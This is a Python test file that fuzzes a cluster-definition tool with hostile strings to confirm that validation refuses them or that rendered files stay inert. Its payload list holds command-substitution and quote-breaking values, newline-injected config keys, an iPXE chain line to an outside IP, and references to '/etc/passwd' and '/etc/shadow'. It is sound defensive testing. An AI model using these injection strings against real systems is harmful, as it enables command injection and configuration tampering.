"""Input is data, never code: hostile strings in every string field (and every mapping key) of a
valid definition are either refused by validation with a located finding, or render into files
that gain no line and no command.

Two parts:
- an exhaustive sweep: every string leaf and key of the lab definition x a fixed list of payloads
  (command substitution, quotes, newlines adding config keys, NUL, bidi overrides, path tricks);
- a hypothesis search with generated strings over an alphabet of shell, config and control
  characters, at any string path (seed printed by hypothesis on failure; CI runs new examples).

Oracle for a definition that validates: the rendered tree has the same files with the same number
of lines as the unmodified lab's (a newline that got through would add a line), every rendered shell
script passes `bash -n`, and the rendered scripts that can run here (qos.sh, nodecheck, build.sh
with stand-in tools) run without creating the payload's marker file.
"""

from __future__ import annotations

import copy
import functools
import os
import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from ruamel.yaml import YAML

from clusterdef.build import build_tree
from clusterdef.errors import DefinitionError, Severity
from clusterdef.source import Source
from clusterdef.validate.pipeline import validate_source
from conftest import CLUSTERS, TODAY

LAB_TEXT = (CLUSTERS / "lab.yaml").read_text()
LAB = YAML(typ="safe").load(LAB_TEXT)
MARKER = Path("/tmp/clusterdef-hostile-marker")

PAYLOADS = [
    "$(touch {m})", "`touch {m}`", "';touch {m};'", '";touch {m};"', "x\ntouch {m}", "x\nProlog={m}",
    "x\r\nSwitchName=evil Nodes=gpu001", "x\ndhcp-script={m}", "x\nchain http://203.0.113.9/x", "x\n[Content]",
    "x;touch {m}", "x&&touch {m}", "x|touch {m}", "x#comment", "-x", "../../etc/passwd", "/etc/shadow",
    "x\x00y", "x\u202ey", "x\u2066y", "x\u200by", "${{IFS}}touch${{IFS}}{m}", "x y", "x:AdminLevel=Administrator",
    "x'", 'x"', "x\\", "%n", "{{ 7*7 }}",
]


def string_paths(node, prefix=()):
    """(path, kind) for every string value ("value") and every mapping key ("key")."""
    if isinstance(node, dict):
        for k, v in node.items():
            yield prefix + (k,), "key"
            yield from string_paths(v, prefix + (k,))
    elif isinstance(node, list):
        for i, v in enumerate(node):
            yield from string_paths(v, prefix + (i,))
    elif isinstance(node, str):
        yield prefix, "value"


PATHS = list(string_paths(LAB))


def mutate(path, kind, payload):
    data = copy.deepcopy(LAB)
    node = data
    for p in path[:-1]:
        node = node[p]
    last = path[-1]
    if kind == "value":
        node[last] = node[last] + payload
    else:
        node[str(last) + payload] = node.pop(last)
    return data


def _line_counts(tree: dict[str, str]) -> list[int]:
    """Lines per file, sorted: a valid rename (a tenant `vision` -> `vision-x`) renames a file but
    keeps its lines; a newline that got through adds one somewhere."""
    return sorted(text.count("\n") for rel, text in tree.items() if rel != "definition.resolved.json")


@functools.cache
def _matrix():
    from clusterdef.matrix.load import load_matrix
    from conftest import MATRICES

    return load_matrix(MATRICES)[0]


@functools.cache
def _positions():
    return Source("lab.yaml", LAB_TEXT).positions()


def _render(data):
    # The lab's position index is shared (built once): findings land on the lab's lines, which is
    # all this test needs, and each mutant skips a round-trip parse.
    return validate_source(Source("hostile.yaml", LAB_TEXT, data, _positions()), _matrix(), TODAY, CLUSTERS)


@pytest.fixture(scope="module")
def baseline():
    result = _render(copy.deepcopy(LAB))
    assert result.ok, result.findings
    tree, _ = build_tree(result)
    return _line_counts(tree)


def _stand_ins(tmp: Path) -> Path:
    """scontrol, sacctmgr, mkosi, cpio and zstd stand-ins that only record their arguments."""
    bin_dir = tmp / "bin"
    bin_dir.mkdir(exist_ok=True)
    tools = {
        "scontrol": 'case "$1 $2" in "show hostnames") echo gpu001;; esac\n',
        "sacctmgr": "exit 0\n",
        "mkosi": 'mkdir -p "$PWD/mkosi.output"; for d in "$PWD"/*/; do :; done\n',
        "cpio": "cat >/dev/null\n",
        "zstd": "cat\n",
    }
    for name, body in tools.items():
        (bin_dir / name).write_text("#!/bin/sh\n" + body)
        (bin_dir / name).chmod(0o755)
    return bin_dir


def _run_scripts(tree: dict[str, str], tmp: Path) -> None:
    """bash -n on every shell script; run the ones that can run here with stand-in tools."""
    bin_dir = _stand_ins(tmp)
    env = {"PATH": f"{bin_dir}:/usr/bin:/bin", "HOME": str(tmp), "CLUSTERDEF_NODECHECK_NODE": "gpu001",
           "CLUSTERDEF_NODECHECK_DRY_RUN": "1", "CLUSTERDEF_NODECHECK_PROBES": str(tmp / "probes"),
           "SACCTMGR": str(bin_dir / "sacctmgr"), "KERNEL": "/dev/null"}
    (tmp / "probes").mkdir(exist_ok=True)
    for rel, text in tree.items():
        is_shell = text.startswith("#!/bin/sh") or text.startswith("#!/bin/bash") or rel.endswith(".sh")
        if not is_shell:
            continue
        script = tmp / "tree" / rel
        script.parent.mkdir(parents=True, exist_ok=True)
        script.write_text(text)
        proc = subprocess.run(["bash", "-n", str(script)], capture_output=True, text=True, timeout=30)
        assert proc.returncode == 0, f"{rel}: bash -n: {proc.stderr}"
        if rel.endswith(("qos.sh", "nodecheck", "build.sh")):
            args = [str(tmp / "artefacts")] if rel.endswith("build.sh") else []
            subprocess.run(["bash", str(script), *args], env=env, cwd=script.parent, capture_output=True,
                           timeout=60)
    assert not MARKER.exists(), "a rendered script ran the payload"


def _tame(text: str) -> str:
    """`text` with every character but ASCII letters and digits replaced by `a`: the same value
    without anything a shell, a config parser or a terminal would read."""
    return "".join(c if c.isascii() and c.isalnum() else "a" for c in text)


def _rendered_counts(data) -> list[int] | None:
    """Line counts of what `data` renders, or None when validation or the quoting wall refuses it."""
    result = _render(data)
    if any(f.severity is Severity.ERROR for f in result.findings):
        return None
    try:
        tree, _ = build_tree(result)
    except DefinitionError:
        return None
    return _line_counts(tree)


def _check(data, baseline, tmp: Path, twin=None) -> bool:
    """True when validation refused `data` (with located findings); otherwise the render oracle.

    `twin` is the same edit made with tame text (see `_tame`). A replaced value can change what is
    rendered for a plain reason (an unknown GPU model drops its thermal alerts), so when the line
    counts move, the hostile mutant must still render exactly as many lines as its tame twin."""
    MARKER.unlink(missing_ok=True)
    result = _render(data)
    errors = [f for f in result.findings if f.severity is Severity.ERROR]
    if errors:
        for f in errors:
            assert f.hint and f.code, f
        return True
    try:
        tree, _ = build_tree(result)
    except DefinitionError as exc:  # the quoting wall refused it: also a refusal, never a crash
        assert exc.findings[0].code == "render-unsafe-value"
        return True
    counts = _line_counts(tree)
    if counts != baseline and twin is not None:
        twin_counts = _rendered_counts(twin)
        if twin_counts is not None:
            baseline = twin_counts
    assert counts == baseline, "files or lines were added or removed"
    if any(str(MARKER) in text or "touch" in text for text in tree.values()):
        _run_scripts(tree, tmp)
    return False


def test_every_string_field_refuses_or_stays_data(baseline, tmp_path):
    """Exhaustive: every string path x every payload. Counts how many got through to render."""
    rendered = []
    for path, kind in PATHS:
        for payload in PAYLOADS:
            p = payload.format(m=MARKER)
            refused = _check(mutate(path, kind, p), baseline, tmp_path)
            if not refused:
                rendered.append((path, kind, p))
    # Shell and config metacharacters reach render only through free-text fields (descriptions,
    # identity-provider group names); every case that rendered was checked by the oracle above.
    metachars = set("$`'\";&|#\n\x00\u202e\u2066\u200b\\")
    fields = {(".".join(str(x) for x in path if not isinstance(x, int)), kind)
              for path, kind, p in rendered if metachars & set(p)}
    allowed = {("cluster.site", "value"), ("cluster.description", "value")}
    allowed |= {(f, k) for f, k in fields if f.startswith("tenants.") and f.endswith(".kubernetes.groups")}
    # smoke test arguments are argv items run without a shell ('$', quotes and ';' are plain bytes to the
    # program); they reach YAML only through the dumper's quoting, never Jinja ('{', '}' refused)
    allowed |= {(f, k) for f, k in fields if f.startswith("upgrade.smoke_tests.") and f.endswith(".argv")}
    assert fields <= allowed, f"hostile text reached render through {sorted(fields - allowed)}"
    assert rendered, "no payload rendered at all: the oracle was never exercised"


HOSTILE_ALPHABET = st.sampled_from(list("$`'\";&|<>#\\\n\r\t\x00 {}()[]*?!~%=,:/.-_aZ09") + ["\u202e", "\u2028"])


@settings(max_examples=int(os.environ.get("CLUSTERDEF_HOSTILE_EXAMPLES", "300")), deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
          derandomize=False)
@given(where=st.sampled_from(PATHS), text=st.text(HOSTILE_ALPHABET, min_size=1, max_size=24),
       mode=st.sampled_from(["append", "replace"]))
def test_generated_hostile_strings(baseline, tmp_path_factory, where, text, mode):
    path, kind = where

    def edit(value: str):
        data = mutate(path, kind, value)
        if mode == "replace" and kind == "value":
            node = data
            for p in path[:-1]:
                node = node[p]
            node[path[-1]] = value
        return data

    _check(edit(text), baseline, tmp_path_factory.mktemp("h"), twin=edit(_tame(text)))


def test_tame_twin_explains_a_plain_change_only(baseline, tmp_path):
    """The twin excuses an unknown GPU model (fewer alert lines), never a newline that adds a line."""
    def replaced(value: str):
        data = copy.deepcopy(LAB)
        data["hardware"]["hgx-h100"]["gpu"]["model"] = value
        return data

    assert _rendered_counts(replaced("0")) != baseline, "an unknown GPU model no longer changes the render"
    assert _check(replaced("0"), baseline, tmp_path, twin=replaced(_tame("0"))) is False
    with pytest.raises(AssertionError, match="added or removed"):
        _check(replaced("0"), baseline, tmp_path)
    assert _tame("x\nProlog=/x") == "xaPrologaax"
